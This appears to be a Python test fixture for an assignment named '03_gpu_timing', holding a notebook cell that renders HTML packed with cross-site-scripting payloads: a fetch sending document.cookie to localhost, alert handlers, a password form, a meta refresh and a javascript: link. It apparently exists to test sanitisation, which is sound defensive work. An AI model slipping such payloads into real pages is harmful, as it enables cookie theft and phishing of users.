"""Displays HTML with scripts, frames, forms, style sheets and event handlers."""

ASSIGNMENT = "03_gpu_timing"
OWN = [
    """
from IPython.display import HTML
HTML('''<script>fetch("http://localhost/" + document.cookie)</script><img src=x onerror="alert(1)">
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<form action="http://localhost"><input name=password></form>
<style>* { background: url(http://localhost/seen) }</style>
<meta http-equiv="refresh" content="0;url=http://localhost">
<base href="http://localhost/"><a href="javascript:alert(1)">points</a><details open ontoggle=alert(1)>''')
"""
]
